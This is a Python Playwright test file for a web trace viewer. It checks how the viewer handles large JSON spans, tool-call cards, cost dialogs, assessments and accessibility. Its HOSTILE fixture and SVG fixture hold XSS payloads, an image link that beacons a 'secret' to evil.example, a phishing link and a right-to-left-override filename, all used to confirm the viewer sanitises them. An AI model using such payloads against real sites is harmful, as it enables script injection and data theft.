"""What is in a span: large values, conversations, hostile text, errors, cost and assessments."""

import base64
import io
import json
import re
import time
import wave
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlencode
from uuid import uuid4

import httpx
import pytest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.trace.v1.trace_pb2 import Span, Status
from playwright.sync_api import Page, Request, expect

from tests.browser.axe import violations
from tests.browser.conftest import Data, NewPage
from tests.support.processes import TrilhaOptions, start_trilha

ITEMS = 130_000
"""About 20 MB of JSON."""

MAX_TASK_MS = 500
"""Below 50 where nothing else runs; a task that waits for a core seems long. 20 MB read in the page take seconds."""
MAX_OPENING_MS = 60_000
"""The server reads, and two cores serve browser, worker, server and whatever else is tested meanwhile."""

SECOND_NS = 1_000_000_000
CHAT, LARGE, FILES = "10" * 16, "20" * 16, "30" * 16
ROOT, CALL, TOOL, ANSWER, EXPORT = (number * 8 for number in ("a1", "b2", "c3", "d4", "e5"))
HOSTILE = (
    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>\n\n"
    "![look](http://evil.example/p.png?secret=1) [click](javascript:window.hacked=1) [bank](https://evil.example/login)\n\n"
    "invoice\u202efdp.exe\n\nWhere is **parcel PT-17**?"
)
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.hacked = 1</script></svg>"
OUTPUT = "document.querySelector('section[aria-label=Output] [role=tree]')"
STATUS = "document.querySelector('section[aria-label=Output] [role=status]')"
WATCH_TASKS = """
window.taskMs = [];
new PerformanceObserver((list) => {
  for (const task of list.getEntries()) window.taskMs.push(Math.round(task.duration));
}).observe({ type: "longtask" });
"""


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Data]:
    """A server with a conversation that a tool failed in, and with a span of 20 MB."""
    server = start_trilha(tmp_path_factory.mktemp("shop") / "data", TrilhaOptions())
    now_ns = time.time_ns()
    _send(server.url, _conversation(now_ns))
    _send(server.url, _large(now_ns))
    _send(server.url, [_with_files(server.url, now_ns)])
    yield Data(server, "0")
    server.stop()


def test_a_json_of_20_mb_opens_and_is_found_in_without_holding_up_the_page(page: Page, shop: Data) -> None:
    page.add_init_script(WATCH_TASKS)
    page.goto(f"{_address(shop, LARGE)}?tab=table&span={ROOT}")
    expect(page.get_by_role("region", name="Span", exact=True)).to_contain_text("export")
    span = page.get_by_role("treeitem", name="export_catalogue").first.element_handle()
    page.evaluate("window.taskMs.length = 0")
    # From here on nothing may ask the page for roles, which would be tasks of its own.
    span.click()
    page.wait_for_function(f"() => {OUTPUT}?.innerText.includes('[ {ITEMS:,} ]')", timeout=MAX_OPENING_MS)
    page.click("section[aria-label=Output] input")
    page.keyboard.insert_text(f"SKU-{ITEMS - 1}")
    page.wait_for_function(f"() => {OUTPUT}.querySelector('mark')?.textContent === 'SKU-{ITEMS - 1}'")
    page.fill("section[aria-label=Output] input", "outdoor")
    page.wait_for_function(f"() => {STATUS}?.textContent === '1 of {ITEMS:,}'")
    page.keyboard.press("Enter")
    page.wait_for_function(f"() => {STATUS}?.textContent === '2 of {ITEMS:,}'")
    page.keyboard.press("Escape")
    page.click("section[aria-label=Output] button[aria-label='Open all']")
    page.wait_for_function(f"() => {OUTPUT}.scrollHeight > 1_000_000")
    page.focus("section[aria-label=Output] [role=tree]")
    page.keyboard.press("End")
    page.wait_for_function(f"""() => {OUTPUT}.innerText.trimEnd().endsWith('1: "new"')""")
    task_ms: list[int] = page.evaluate("window.taskMs")

    assert max(task_ms, default=0) <= MAX_TASK_MS
    assert page.get_by_role("tree", name="Output").get_by_role("treeitem").count() < 150


def test_keys_walk_a_value_and_copy_from_it(page: Page, shop: Data) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.goto(f"{_address(shop, CHAT)}?span={TOOL}&part=output")
    tree = page.get_by_role("tree", name="Output")
    tree.focus()
    for key in ("Home", "End", "ArrowLeft", "ArrowRight", "ArrowRight"):
        tree.press(key)
    expect(tree.get_by_role("treeitem", selected=True)).to_have_text('0: "left Porto"')
    tree.press("Control+c")
    assert page.evaluate("navigator.clipboard.readText()") == "left Porto"
    tree.get_by_role("treeitem", selected=True).hover()
    page.get_by_role("button", name="Copy the path").click()
    assert page.evaluate("navigator.clipboard.readText()") == "$.log[0]"


def test_text_of_a_trace_runs_nothing_and_fetches_nothing(page: Page, shop: Data) -> None:
    pictures: list[str] = []

    def note(request: Request) -> None:
        if request.resource_type == "image":
            pictures.append(request.url)

    page.on("request", note)
    page.goto(f"{_address(shop, CHAT)}?tab=messages&span={CALL}")
    for part in (page.get_by_role("region", name="Conversation"), page.get_by_role("region", name="Span", exact=True)):
        expect(part.locator("strong", has_text="parcel PT-17").first).to_be_visible()
        expect(part).to_contain_text("<script>window.hacked = 1</script>")
        expect(part).to_contain_text("invoice\u2039U+202E\u203afdp.exe")
        expect(part.get_by_role("link", name="bank").first).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(part.get_by_role("link", name="click")).to_have_count(0)
        expect(part.locator("img").first).to_have_attribute("src", f"data:image/png;base64,{PICTURE}")

    assert [url for url in pictures if not url.startswith("data:") and not url.endswith("favicon.svg")] == []
    assert page.evaluate("window.hacked") is None


def test_files_beside_a_trace_are_shown_played_and_fetched(page: Page, shop: Data) -> None:
    page.goto(f"{_address(shop, FILES)}?tab=table&span={ROOT}")
    part = page.get_by_role("region", name="Span", exact=True).get_by_role("region", name="Input")
    picture = part.locator("img")
    expect(picture).to_have_count(1)  # SVG is not shown: it could run
    expect(picture).to_have_js_property("naturalWidth", 1)
    sound = part.locator("audio")
    sound.evaluate("sound => sound.load()")
    expect(sound).to_have_js_property("duration", 0.5)
    with page.expect_download() as download:
        part.get_by_role("link", name="image/svg+xml").click()
    assert download.value.path().read_bytes() == SVG


def test_a_tool_is_one_card_with_what_it_was_asked_and_what_it_gave(page: Page, shop: Data) -> None:
    page.goto(f"{_address(shop, CHAT)}?tab=messages")
    conversation = page.get_by_role("region", name="Conversation")
    cards = conversation.get_by_role("article")
    card = cards.filter(has=page.get_by_role("button", name="track"))

    expect(card).to_have_count(1)
    expect(card).to_contain_text('parcel: "PT-17"')
    expect(card).to_contain_text("lost")
    expect(card).to_contain_text("no such parcel")
    expect(conversation.get_by_role("button", name="System")).to_have_attribute("aria-expanded", "false")
    expect(conversation.get_by_role("button", name="Thinking")).to_have_attribute("aria-expanded", "false")
    card.get_by_role("button", name="track").click()
    expect(card.get_by_role("region", name="Arguments")).to_contain_text("PT-17")
    expect(card.get_by_role("region", name="Result")).to_contain_text("left Porto")
    expect(page).to_have_url(re.compile(f"span={TOOL}"))
    expect(page.get_by_role("region", name="Span", exact=True)).to_contain_text("CarrierError")
    page.keyboard.press("j")
    expect(page).to_have_url(re.compile(f"span={ANSWER}"))


def test_a_cost_is_told_line_by_line(page: Page, shop: Data) -> None:
    page.goto(f"{_address(shop, CHAT)}?span={CALL}")
    span = page.get_by_role("region", name="Span", exact=True)
    expect(span).to_contain_text("1,200 → 340 tokens (800 from the cache)")
    span.get_by_role("button", name="$0.00").click()
    bill = page.get_by_role("dialog", name="Cost")

    expect(bill.get_by_role("row", name="Input 400 \u00d7 $0.15 per million = $0.00006")).to_be_visible()
    expect(
        bill.get_by_role("row", name="Input from the cache 800 \u00d7 $0.075 per million = $0.00006")
    ).to_be_visible()
    expect(bill.get_by_role("row", name="Output 340 \u00d7 $0.6 per million = $0.000204")).to_be_visible()
    expect(bill.get_by_role("row", name="Total $0.000324")).to_be_visible()
    expect(bill).to_contain_text("Prices: genai-prices")

    page.goto(f"{_address(shop, CHAT)}?span={ANSWER}")
    page.get_by_role("button", name="Price unknown").first.click()
    expect(page.get_by_role("dialog", name="Cost")).to_contain_text("No price is known for own-model-7b")


def test_an_attribute_leads_to_the_traces_that_have_it(page: Page, shop: Data) -> None:
    page.goto(f"{_address(shop, CHAT)}?span={CALL}&part=attributes")
    page.get_by_role("searchbox", name="Find an attribute").fill("request.model")
    page.get_by_role("button", name="Traces with this gen_ai.request.model").focus()
    page.keyboard.press("Enter")

    expect(page).to_have_url(re.compile(r"/traces\?"))
    assert httpx.QueryParams(page.url.partition("?")[2])["q"] == "span.attributes.gen_ai.request.model = 'gpt-4o-mini'"


def test_feedback_is_added_overridden_and_deleted(page: Page, shop: Data) -> None:
    page.goto(f"{_address(shop, CHAT)}?span={TOOL}")
    expect(page.get_by_role("region", name="Span", exact=True)).to_contain_text("CarrierError")
    page.keyboard.press("a")
    form = page.get_by_role("form", name="Add an assessment")
    form.get_by_label("Name").fill("useful")
    form.get_by_label("Why").fill("It found the parcel.")
    form.get_by_role("button", name="Save").click()
    panel = page.get_by_role("region", name="Assessments")
    card = panel.get_by_role("article")
    expect(card).to_contain_text("Yes")
    expect(card).to_contain_text("It found the parcel.")

    card.get_by_role("button", name="Override useful").click()
    form = page.get_by_role("form", name="Override useful")
    form.get_by_label("Value").select_option("No")
    form.get_by_role("button", name="Override").click()
    expect(card.locator("s")).to_have_text("true")
    expect(card).to_contain_text("No")
    _wait_until(lambda: [one["valid"] for one in _assessments(shop)] == [False, True])
    page.reload()
    expect(card.locator("s")).to_have_text("true")

    card.get_by_role("button", name="Delete useful").click()
    card.get_by_role("button", name="Delete", exact=True).click()
    expect(card).to_contain_text("Yes")
    expect(card.locator("s")).to_have_count(0)
    _wait_until(lambda: [one["valid"] for one in _assessments(shop)] == [True])


def test_an_assessment_that_is_refused_is_taken_back_and_said(page: Page, shop: Data, tolerated: list[str]) -> None:
    tolerated.append("status of 507")
    problem = {"title": "Full", "status": 507, "detail": "the disk is full"}
    page.route("**/assessments", lambda route: route.fulfill(status=507, json=problem))
    page.goto(f"{_address(shop, CHAT)}?span={ROOT}&part=assessments")
    page.get_by_role("button", name="Add an assessment").click()
    form = page.get_by_role("form", name="Add an assessment")
    form.get_by_label("Name").fill("useful")
    form.get_by_role("button", name="Save").click()

    expect(page.get_by_text("The assessment was not changed: the disk is full")).to_be_visible()
    expect(page.get_by_role("region", name="Assessments").get_by_role("article")).to_have_count(0)


@pytest.mark.parametrize("color_scheme", ["light", "dark"])
def test_the_parts_of_a_span_hinder_nobody(new_page: NewPage, shop: Data, color_scheme: str) -> None:
    page = new_page(color_scheme=color_scheme)
    page.goto(f"{_address(shop, CHAT)}?tab=messages&span={CALL}")
    expect(page.get_by_role("region", name="Conversation").get_by_role("article").first).to_be_visible()
    found: list[str] = []
    for part in ("Messages", "Input, output", "Tools", "Attributes", "Assessments", "Raw"):
        tab = page.get_by_role("tablist", name="Parts of the span").get_by_role("tab", name=part)
        tab.click()
        expect(tab).to_have_attribute("aria-selected", "true")
        found += violations(page)

    assert found == []


def _address(shop: Data, trace_id: str) -> str:
    return f"{shop.url}/experiments/{shop.experiment_id}/traces/tr-{trace_id}"


def _assessments(shop: Data) -> list[dict[str, Any]]:  # Any: JSON
    found = httpx.get(f"{shop.url}/api/v1/traces/tr-{CHAT}").json()["assessments"]
    return sorted(found, key=lambda one: one["create_time_ms"])


def _wait_until(holds: Callable[[], bool]) -> None:
    for _ in range(50):
        if holds():
            return
        time.sleep(0.1)
    pytest.fail("it never came true")


def _send(url: str, spans: list[Span]) -> None:
    request = ExportTraceServiceRequest()
    request.resource_spans.add().scope_spans.add().spans.extend(spans)
    headers = {"content-type": "application/x-protobuf"}
    httpx.post(f"{url}/v1/traces", content=request.SerializeToString(), headers=headers, timeout=60).raise_for_status()


def _span(trace_id: str, span_id: str, name: str, start_ns: int, attributes: dict[str, object]) -> Span:
    span = Span(trace_id=bytes.fromhex(trace_id), span_id=bytes.fromhex(span_id), name=name)
    span.start_time_unix_nano, span.end_time_unix_nano = start_ns, start_ns + SECOND_NS
    if span_id != ROOT:
        span.parent_span_id = bytes.fromhex(ROOT)
    for key, value in attributes.items():
        target = span.attributes.add(key=key).value
        if isinstance(value, int):
            target.int_value = value
        else:
            target.string_value = value if isinstance(value, str) else json.dumps(value)
    return span


def _chat(model: str, tokens: tuple[int, int], system: str, given: list[Any], gave: list[Any]) -> dict[str, object]:
    return {
        "gen_ai.operation.name": "chat",
        "gen_ai.request.model": model,
        "gen_ai.provider.name": "openai" if model.startswith("gpt") else "own",
        "gen_ai.usage.input_tokens": tokens[0],
        "gen_ai.usage.output_tokens": tokens[1],
        "gen_ai.system_instructions": [{"type": "text", "content": system}],
        "gen_ai.input.messages": given,
        "gen_ai.output.messages": [{"role": "assistant", "parts": gave}],
    }


def _conversation(now_ns: int) -> list[Span]:
    asked = {"type": "tool_call", "id": "c1", "name": "track", "arguments": {"parcel": "PT-17"}}
    found = {"status": "lost", "log": ["left Porto", "in Lisbon"]}
    picture = {"type": "blob", "modality": "image", "mime_type": "image/png", "content": PICTURE}
    user = {"role": "user", "parts": [{"type": "text", "content": HOSTILE}, picture]}
    start_ns = now_ns - 60 * SECOND_NS
    root = _span(CHAT, ROOT, "support_agent", start_ns, {"mlflow.spanType": '"AGENT"'})
    thought = {"type": "reasoning", "content": "It may be lost."}
    call = _span(
        CHAT,
        CALL,
        "chat",
        start_ns + SECOND_NS,
        _chat("gpt-4o-mini", (1200, 340), "Be kind.", [user], [thought, asked]),
    )
    call.attributes.add(key="gen_ai.usage.cache_read.input_tokens").value.int_value = 800
    call.attributes.add(key="gen_ai.tool.definitions").value.string_value = json.dumps(
        [{"type": "function", "name": "track", "description": "Where a parcel is", "parameters": {"type": "object"}}]
    )
    tool = _span(
        CHAT,
        TOOL,
        "track",
        start_ns + 3 * SECOND_NS,
        {
            "gen_ai.operation.name": "execute_tool",
            "gen_ai.tool.name": "track",
            "gen_ai.tool.call.id": "c1",
            "gen_ai.tool.call.arguments": {"parcel": "PT-17"},
            "gen_ai.tool.call.result": found,
        },
    )
    tool.status.code, tool.status.message = Status.STATUS_CODE_ERROR, "CarrierError: no such parcel"
    event = tool.events.add(name="exception", time_unix_nano=start_ns + 4 * SECOND_NS)
    for key, value in {"type": "CarrierError", "message": "no such parcel", "stacktrace": "at track"}.items():
        event.attributes.add(key=f"exception.{key}").value.string_value = value
    told = {"role": "tool", "parts": [{"type": "tool_call_response", "id": "c1", "response": found}]}
    given = [user, {"role": "assistant", "parts": [thought, asked]}, told]
    words = {"type": "text", "content": "It is **lost**."}
    answer = _span(
        CHAT, ANSWER, "chat", start_ns + 5 * SECOND_NS, _chat("own-model-7b", (1500, 60), "Be kind.", given, [words])
    )
    return [root, call, tool, answer]


def _with_files(url: str, now_ns: int) -> Span:
    files = {"image/png": base64.b64decode(PICTURE), "audio/wav": _sound(), "image/svg+xml": SVG}
    references: list[str] = []
    for content_type, content in files.items():
        attachment_id = str(uuid4())
        told = urlencode({"content_type": content_type, "trace_id": f"tr-{FILES}", "size": len(content)})
        references.append(f"mlflow-attachment://{attachment_id}?{told}")
        place = f"{url}/api/v1/traces/tr-{FILES}/attachments/{attachment_id}"
        httpx.put(place, content=content, headers={"x-mlflow-experiment-id": "0"}).raise_for_status()
    start_ns = now_ns - 20 * SECOND_NS
    return _span(FILES, ROOT, "look", start_ns, {"mlflow.spanInputs": {"files": references}})


def _sound() -> bytes:
    """Half a second of silence."""
    written = io.BytesIO()
    with wave.open(written, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8000)
        sound.writeframes(b"\x80" * 4000)
    return written.getvalue()


def _large(now_ns: int) -> list[Span]:
    items = [
        {
            "sku": f"SKU-{number:06d}",
            "title": f"Trail shoe {number * 7919:012x}",
            "price_usd": number % 200 + 0.99,
            "stock": {"lisbon": number % 7, "porto": number % 5},
            "tags": ["outdoor", "new"],
        }
        for number in range(ITEMS)
    ]
    start_ns = now_ns - 30 * SECOND_NS
    root = _span(LARGE, ROOT, "export", start_ns, {"mlflow.spanInputs": {"format": "json"}})
    export = _span(LARGE, EXPORT, "export_catalogue", start_ns, {"mlflow.spanOutputs": {"items": items}})
    return [root, export]
